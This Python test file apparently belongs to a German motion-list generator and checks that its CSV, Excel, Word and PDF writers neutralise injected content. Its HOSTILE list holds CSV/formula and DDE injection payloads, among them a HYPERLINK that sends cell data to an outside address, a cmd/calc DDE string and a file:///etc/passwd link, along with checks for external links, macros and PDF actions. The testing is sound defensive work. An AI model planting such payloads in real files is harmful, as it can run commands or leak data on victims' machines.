"""What is handed on carries no formula, link or field made of content: each text of each table is tried.

The texts of a tree are put into it where papers and lists have their own, so that no column can be forgotten.
"""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import fields, replace
from functools import cache
from typing import Any, TypeVar

import openpyxl
import pikepdf
import pytest
from lxml import etree
from papers import PROJECT
from work.lists.motions import STAND
from work.yearly.year_papers import band
from writers.docx.docx_papers import BASE as BASE_DOCX
from writers.list_trees import document, money, table, words
from writers.pdf.pdf_papers import BASE_CSS, every_node

from antrag_gen.german.geld import Einheit
from antrag_gen.tree import Document, Metadata, Node, Table, Text, walk
from antrag_gen.work.lists.make import Form, ListOrder, make_list
from antrag_gen.work.lists.select import Auswahl, read_motions, select
from antrag_gen.writers import csv_file
from antrag_gen.writers.docx import write as docx
from antrag_gen.writers.pdf import write as pdf
from antrag_gen.writers.xlsx import write as xlsx

pytestmark = pytest.mark.auswahl(1)

N = TypeVar("N", bound=Node)
HOSTILE = (
    '=HYPERLINK("http://192.0.2.1/?"&A1;"Hier")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "＝1+1",
    "{ DDEAUTO c:\\\\windows cmd }",
    "javascript:alert(1) file:///etc/passwd",
    "&G&F",
)
NUMBER = re.compile(r"-?[0-9]+(,[0-9]+)?")
RANGES = r"[A-Z]+[0-9]+(:[A-Z]+[0-9]+)?(,[A-Z]+[0-9]+(:[A-Z]+[0-9]+)?)*"
OTHER = r"'[^']*'!\$[A-Z]+\$[0-9]+:\$[A-Z]+\$[0-9]+"
RATE = r'IF\([A-Z]+[0-9]+=0,"",ROUND\([A-Z]+[0-9]+/[A-Z]+[0-9]+\*100,[0-9]\)\)'
SUM = re.compile(rf"=(SUBTOTAL\(109,{RANGES}\)|{RATE}|SUMPRODUCT\(--\({OTHER}=\$A[0-9]+\),{OTHER}\))")
FORMULA = tuple("=+-@\t\r\n＝＋－＠")
each_hostile = pytest.mark.parametrize("text", HOSTILE)


def with_text(node: N, text: str) -> N:
    """The node with that text in the place of each of its own; numbers of cells stay."""
    if isinstance(node, Text):
        return replace(node, text=text)
    if getattr(node, "value", None) is not None:
        return node
    changed: dict[str, Any] = {
        member.name: tuple(with_text(child, text) if isinstance(child, Node) else child for child in value)
        for member in fields(node)
        if isinstance(value := getattr(node, member.name), tuple)
    }
    if isinstance(node, Table) and node.part is not None:
        changed["part"] = replace(node.part, whole=with_text(node.part.whole, text))
    return replace(node, **changed)


@cache
def lists() -> tuple[Document, ...]:
    """Every document that is written as data: lists of motions, of running numbers, and the reports of a year."""
    read = read_motions(list(PROJECT.folder.content_files(())), PROJECT)
    motions = select(read.listed, Auswahl(), PROJECT)
    orders = [ListOrder(form, Auswahl(), (), Einheit.EURO, STAND) for form in (Form.LISTE, Form.NUMMERN)]
    return (*(make_list(order, motions, read.failed, PROJECT) for order in orders), band().uebersicht)


@cache
def hostile_lists(text: str) -> tuple[Document, ...]:
    return tuple(with_text(each, text) for each in lists())


@pytest.mark.langsam
def test_all_data_files_have_tables_with_words_and_numbers() -> None:
    assert [sum(isinstance(node, Table) for node in walk(each)) > 0 for each in lists()] == [True, True, True]


@pytest.mark.langsam
@each_hostile
def test_no_cell_of_a_csv_file_begins_as_a_formula_does(text: str) -> None:
    for each in hostile_lists(text):
        rows = list(csv.reader(io.StringIO(csv_file.write(each, b"").decode("utf-8-sig")), delimiter=";"))
        assert any(text in cell for row in rows for cell in row)
        wrong = [cell for row in rows for cell in row if cell.startswith(FORMULA) and not NUMBER.fullmatch(cell)]
        assert wrong == []


@pytest.mark.langsam
@each_hostile
def test_the_formulas_of_a_workbook_are_sums_and_it_leads_nowhere(text: str) -> None:
    for each in hostile_lists(text):
        data = xlsx.write(each, b"")
        pages = openpyxl.load_workbook(io.BytesIO(data)).worksheets
        cells = [cell for page in pages for row in page.iter_rows() for cell in row]
        assert any(cell.value == text and cell.data_type == "s" for cell in cells)
        assert [cell.value for cell in cells if cell.data_type == "f" and not SUM.fullmatch(cell.value)] == []
        assert [cell.hyperlink for cell in cells if cell.hyperlink] == []
        assert list(leading_out(data)) == []
        headers = {text for page in pages for part in (page.oddHeader, page.oddFooter) for text in texts_of(part)}
        assert not any("&G" in each or "&F" in each for each in headers)


def texts_of(part: Any) -> list[str]:
    return [side.text for side in (part.left, part.center, part.right) if side.text]


def leading_out(package: bytes) -> Iterator[str]:
    """Where the relationships of an office package lead that leave it, and parts that run or hold another file."""
    with zipfile.ZipFile(io.BytesIO(package)) as parts:
        for name in parts.namelist():
            if name.endswith(".rels"):
                for relation in etree.fromstring(parts.read(name)):
                    if relation.get("TargetMode") == "External":
                        yield relation.get("Target", "")
            if "vba" in name.lower() or "externalLink" in name or "embeddings" in name or "connections" in name:
                yield name


def fields_of(package: bytes) -> list[str]:
    """The instructions of all fields of a Word file, and of the parts that hold any."""
    with zipfile.ZipFile(io.BytesIO(package)) as parts:
        roots = [etree.fromstring(parts.read(name)) for name in parts.namelist() if name.endswith(".xml")]
    return sorted(
        (element.text or "") + "".join(map(str, element.attrib.values()))
        for root in roots
        for element in root.iter("{*}instrText", "{*}fldSimple")
    )


def actions_of(data: bytes) -> list[str]:
    """What a PDF can do: the kinds of its actions and where links lead to."""
    found = []
    with pikepdf.open(io.BytesIO(data)) as file:
        for each in file.objects:
            if isinstance(each, pikepdf.Dictionary):
                found += [str(each[key]) for key in ("/URI",) if key in each]
                found += [key for key in ("/JS", "/OpenAction", "/AA", "/Launch", "/XFA", "/AcroForm") if key in each]
                found += [str(each.S) for key in ("/URI", "/D", "/F") if key in each and "/S" in each]
    return sorted(found)


@pytest.mark.langsam
@each_hostile
def test_links_and_fields_of_a_word_file_are_those_of_the_tree(text: str) -> None:
    plain, hostile = (docx.write(tree, BASE_DOCX) for tree in (every_node(), with_text(every_node(), text)))
    assert text.split(maxsplit=1)[0] in zipfile.ZipFile(io.BytesIO(hostile)).read("word/document.xml").decode().replace(
        "&amp;", "&"
    )
    assert sorted(leading_out(hostile)) == sorted(leading_out(plain))
    assert fields_of(hostile) == fields_of(plain)


def test_a_pdf_can_do_nothing_that_its_texts_ask_for() -> None:
    tree = document(table(*((words(text), money("1", "1")) for text in HOSTILE)), heading=HOSTILE[0])
    data = pdf.write(replace(tree, metadata=Metadata(HOSTILE[0], author=HOSTILE[5], number=HOSTILE[6])), BASE_CSS)
    assert actions_of(data) == []
